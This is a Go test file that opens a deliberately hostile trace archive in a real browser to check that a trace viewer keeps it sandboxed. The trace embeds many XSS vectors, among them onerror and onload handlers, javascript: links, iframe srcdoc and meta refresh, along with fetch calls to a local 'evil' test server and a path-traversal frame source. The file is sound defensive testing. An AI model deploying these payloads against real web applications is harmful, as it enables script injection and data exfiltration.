package gateway_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ramus-dev/ramus/executor"
	"github.com/ramus-dev/ramus/executor/browse"
	"github.com/ramus-dev/ramus/tasks/browser/browsertest"
)

// withViewer gives a server the trace viewer of pkg, as if the server had copied it from a browser's container.
func withViewer(t *testing.T, pkg string) func(*executor.Executor) {
	return func(x *executor.Executor) {
		x.Browser = new(browse.Browser)
		dir := filepath.Join(x.Data, "trace-viewer", strings.Repeat("0", 64))
		if err := os.CopyFS(dir, os.DirFS(filepath.Join(pkg, "lib", "vite", "traceViewer"))); err != nil {
			t.Fatal(err)
		}
	}
}

// looked is the observation of a browser in the viewer.
type looked struct {
	Errors, PageErrors, Requests, Actions, Frames, Scopes []string
	Snapshots                                             []struct {
		Action    int
		Tab, HTML string
		Error     string
	}
	Title, Cookie string
	Dialogs       int
}

func lookAtTrace(t *testing.T, address, text string) (seen looked) {
	t.Helper()
	pkg, chromium, node := browsertest.Driver(t, "..")
	cmd := exec.CommandContext(t.Context(), node, "testdata/trace_viewer.cjs", pkg, chromium, address, text,
		os.Getenv("RAMUS_TRACE_PICTURE"))
	var errs bytes.Buffer
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v: %s", err, errs.String())
	}
	if err := json.Unmarshal(out, &seen); err != nil {
		t.Fatal(err)
	}
	return seen
}

// TestHostileTrace opens a hostile trace in a real browser. The snapshots try to run a script, to load or send data,
// and to navigate to another site.
func TestHostileTrace(t *testing.T) {
	t.Parallel()
	pkg, _, _ := browsertest.Driver(t, "..")
	r := openExecutor(t, false, withViewer(t, pkg), nil)

	var mu sync.Mutex
	var asked []string
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		asked = append(asked, req.URL.Path)
	}))
	evil.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew { // a connection made in advance reveals the person who looks too
			mu.Lock()
			defer mu.Unlock()
			asked = append(asked, "a connection")
		}
	}
	evil.Start()
	defer evil.Close()
	trace := hostileTrace(t, evil.URL)

	mux := http.NewServeMux()
	mux.Handle("/", r.web.Config.Handler)
	mux.HandleFunc("/file/trace.zip", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Security-Policy", "sandbox")
		http.ServeContent(w, req, "trace.zip", time.Time{}, bytes.NewReader(trace))
	})
	for name, start := range map[string]func(http.Handler) *httptest.Server{"http": httptest.NewServer, "https": httptest.NewTLSServer} {
		t.Run(name, func(t *testing.T) {
			web := start(mux)
			defer web.Close()
			seen := lookAtTrace(t, web.URL+"/trace/index.html?trace="+url.QueryEscape("/file/trace.zip?a=b&c=d"),
				"Visible text")
			mu.Lock()
			defer mu.Unlock()
			if len(asked) > 0 {
				t.Errorf("the trace had asked another server for %q", asked)
			}
			if len(seen.Actions) != 1 || !strings.Contains(seen.Actions[0], "Navigate") {
				t.Errorf("actions %q", seen.Actions)
			}
			if len(seen.Snapshots) != 2 {
				t.Errorf("%d snapshots", len(seen.Snapshots))
			}
			for _, s := range seen.Snapshots {
				if s.Error != "" {
					t.Errorf("snapshot %s: %s", s.Tab, s.Error)
				}
			}
			if strings.Contains(seen.Title, "pwned") || seen.Dialogs > 0 {
				t.Errorf("a script of the trace has run: title %q", seen.Title)
			}
			for _, at := range seen.Frames { // about:blank is where every frame begins
				if at != "about:blank" && !strings.HasPrefix(at, web.URL+"/trace/") && !strings.HasPrefix(at, "data:") {
					t.Errorf("a frame went to %s", at)
				}
			}
			for _, scope := range seen.Scopes {
				if scope != web.URL+"/trace/" {
					t.Errorf("a worker for %s", scope)
				}
			}
		})
	}
}

// hostileTrace returns a trace of one action with hostile snapshots.
func hostileTrace(t *testing.T, evil string) []byte {
	t.Helper()
	script := fmt.Sprintf("top.document.title='pwned';document.title='pwned';alert(1);fetch('%s/script-ran')", evil)
	type m = map[string]any
	type l = []any
	html := l{"HTML", m{}, l{"HEAD", m{}, l{"BASE", m{"href": evil + "/base/"}}}, l{"BODY", m{"onload": script},
		l{"SCRIPT", m{}, script}, l{"script", m{"src": evil + "/script.js"}},
		l{"IMG", m{"src": "x", "onerror": script}},
		l{`img src=x onerror="` + script + `" x`, m{}},
		l{"IMG", m{`x onerror="` + script + `" src="y" z`: "1"}},
		l{"IMG", m{"><script>" + script + "</script><b a": "1"}},
		l{"META", m{"http-equiv": "refresh", "content": "0;url=" + evil + "/meta"}},
		l{"meta http-equiv=refresh content='0;url=" + evil + "/raw-meta' ", m{}},
		l{"LINK", m{"rel": "preconnect", "href": evil}}, l{"LINK", m{"rel": "dns-prefetch", "href": evil}},
		l{"LINK", m{"rel": "prefetch", "href": evil + "/prefetch"}},
		l{"link rel=preload as=script href=" + evil + "/raw-preload ", m{}},
		l{"LINK", m{"rel": "stylesheet", "href": evil + "/style.css"}},
		l{"FORM", m{"action": evil + "/form", "method": "post"}, l{"INPUT", m{"autofocus": "", "onfocus": script}},
			l{"BUTTON", m{"type": "submit"}, "go"}},
		l{"IFRAME", m{"src": evil + "/iframe"}}, l{"IFRAME", m{"srcdoc": "<script>" + script + "</script>"}},
		l{"IFRAME", m{"__playwright_src__": "/../../../evidence/x"}}, l{"iframe src=" + evil + "/raw-iframe ", m{}},
		l{"iframe srcdoc='<script>" + script + "</script>' ", m{}},
		l{"OBJECT", m{"data": evil + "/object"}}, l{"EMBED", m{"src": evil + "/embed"}},
		l{"A", m{"href": "javascript:" + script}, "click"},
		l{"STYLE", m{}, "body{background:url(" + evil + "/css)} </style><img src=x onerror=\"" + script + "\">"},
		l{"svg", m{}, l{"animate", m{"onbegin": script, "attributeName": "x"}}},
		l{"VIDEO", m{"src": evil + "/video", "poster": evil + "/poster", "onerror": script}},
		l{"DIV", m{}, l{"TEMPLATE", m{"__playwright_shadow_root_": "open"}, l{"IMG", m{"src": "y", "onerror": script}}}},
		l{"P", m{}, "Visible text"}}}
	shot := func(name, doctype string) m {
		return m{"type": "frame-snapshot", "snapshot": m{"callId": "call@8", "snapshotName": name, "pageId": "page@1",
			"frameId": "frame@1", "frameUrl": evil + "/",
			"doctype": doctype, "html": html, "viewport": m{"width": 800, "height": 600}, "timestamp": 1002,
			"wallTime":       1795311421772,
			"collectionTime": 1, "resourceOverrides": l{}, "isMainFrame": true}}
	}
	var events bytes.Buffer
	e := json.NewEncoder(&events)
	for _, v := range []m{
		{"type": "context-options", "version": 8, "origin": "library", "browserName": "chromium",
			"options":  m{"viewport": m{"width": 800, "height": 600}},
			"platform": "linux", "wallTime": 1795311421770, "monotonicTime": 1000, "sdkLanguage": "javascript",
			"contextId": "context@1"},
		{"type": "before", "callId": "call@8", "startTime": 1001, "class": "Frame", "method": "goto",
			"params": m{"url": evil + "/"}, "pageId": "page@1", "beforeSnapshot": "before@call@8"},
		shot("before@call@8", "html"),
		{"type": "console", "messageType": "error", "text": `<img src=x onerror="` + script + `">`, "args": l{},
			"location": m{"url": "javascript:" + script, "lineNumber": 0, "columnNumber": 0}, "time": 1005,
			"pageId": "page@1"},
		{"type": "after", "callId": "call@8", "endTime": 1010, "afterSnapshot": "after@call@8"},
		shot("after@call@8", "html><script>"+script+"</script>"),
	} {
		if err := e.Encode(v); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.Create("trace.trace")
	if err == nil {
		_, err = w.Write(events.Bytes())
	}
	if err == nil {
		_, err = z.Create("trace.network")
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
